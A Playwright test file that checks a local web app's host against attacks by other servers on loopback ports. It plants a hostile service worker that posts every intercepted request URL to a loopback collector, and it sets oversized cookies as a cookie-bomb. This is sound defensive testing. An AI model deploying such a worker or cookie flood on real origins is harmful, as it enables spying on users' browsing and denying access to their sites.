import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { type BrowserContext, chromium, type Page } from '@playwright/test'
import { definedEnv, findChromium } from '../chromium.ts'
import { startHost } from '../host.ts'
import { expect, SAMPLE, test } from '../window.ts'

/** Another user's servers on loopback ports, which the victim's browser visits, as when it reloads old tabs. */

const LOOPBACK = '127.0.0.1'

async function serve(answer: (request: IncomingMessage, response: ServerResponse) => void, port = 0): Promise<Server> {
  const server = createServer(answer)
  await new Promise<void>((resolve, reject) => server.once('error', reject).listen(port, LOOPBACK, resolve))
  return server
}

const portOf = (server: Server): number => (server.address() as AddressInfo).port

function end(server: Server): Promise<unknown> {
  server.closeAllConnections()
  return new Promise(resolve => server.close(resolve))
}

const workerScript = (collector: number): string => `
  addEventListener('install', () => skipWaiting())
  addEventListener('activate', event => event.waitUntil(clients.claim()))
  addEventListener('fetch', event => {
    fetch('http://${LOOPBACK}:${collector}/', { method: 'POST', mode: 'no-cors', body: event.request.url })
    event.respondWith(new Response('planted'))
  })`

const serveWorker = (collector: number): Promise<Server> =>
  serve((request, response) => {
    const isWorker = request.url === '/worker.js'
    response.setHeader('Content-Type', isWorker ? 'text/javascript' : 'text/html')
    response.end(isWorker ? workerScript(collector) : '<!doctype html><title>planting</title>')
  })

async function collect(): Promise<{ server: Server; collected: string[] }> {
  const collected: string[] = []
  const server = await serve((request, response) => {
    request.setEncoding('utf8').on('data', (text: string) => collected.push(text))
    request.on('end', () => response.end())
  })
  return { server, collected }
}

async function openProfile(folder: string): Promise<BrowserContext> {
  const { executablePath, args, env } = await findChromium()
  return chromium.launchPersistentContext(folder, { executablePath, args, env: { ...definedEnv(), ...env } })
}

async function plantWorker(page: Page, origin: string): Promise<void> {
  await page.goto(`${origin}/`)
  await page.evaluate(async () => {
    await navigator.serviceWorker.register('/worker.js', { scope: '/' })
    await navigator.serviceWorker.ready
  })
}

test('a service worker that another server planted on the port sees nothing of the window', async ({
  scratch,
  home,
}) => {
  const { server: collector, collected } = await collect()
  const squatter = await serveWorker(portOf(collector))
  const port = portOf(squatter)
  const profile = path.join(scratch, 'profile')
  const origins = [LOOPBACK, 'localhost'].map(name => `http://${name}:${port}`)
  const before = await openProfile(profile)
  const planting = await before.newPage()
  for (const origin of origins) await plantWorker(planting, origin)
  await before.close()
  await end(squatter)

  const host = await startHost([SAMPLE], home, { port })
  const later = await openProfile(profile)
  try {
    const page = await later.newPage()
    await page.goto(host.address)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    expect(await page.evaluate(() => navigator.serviceWorker.controller)).toBeNull()
    expect(collected).toEqual([])
    // The workers exist all the same, at the origins that anyone on the machine can have.
    for (const origin of origins) {
      await page.goto(`${origin}/visited`)
      expect(await page.textContent('body')).toBe('planted')
      await expect.poll(() => collected).toContain(`${origin}/visited`)
    }
  } finally {
    await later.close()
    await host.end()
    await end(collector)
  }
})

test('cookies of other servers on the machine do not keep the window from opening', async ({ sharedBrowser, home }) => {
  const host = await startHost([SAMPLE], home)
  const largeCookies = (name: string, attributes: string): string[] =>
    Array.from({ length: 5 }, (_, i) => `${name}${i}=${'x'.repeat(4000)}; Path=/${attributes}`)
  const other = await serve((_, response) => {
    response.setHeader('Set-Cookie', [...largeCookies('own', ''), ...largeCookies('wide', '; Domain=localhost')])
    response.end('large cookies')
  })
  const context = await sharedBrowser.newContext()
  try {
    const page = await context.newPage()
    await page.goto(host.address)
    for (const name of [LOOPBACK, 'localhost', 'other.localhost']) {
      const visit = await context.newPage()
      await visit.goto(`http://${name}:${portOf(other)}/`)
    }
    const answer = await page.reload()
    expect(answer?.status()).toBe(200)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  } finally {
    await context.close()
    await end(other)
    await host.end()
  }
})
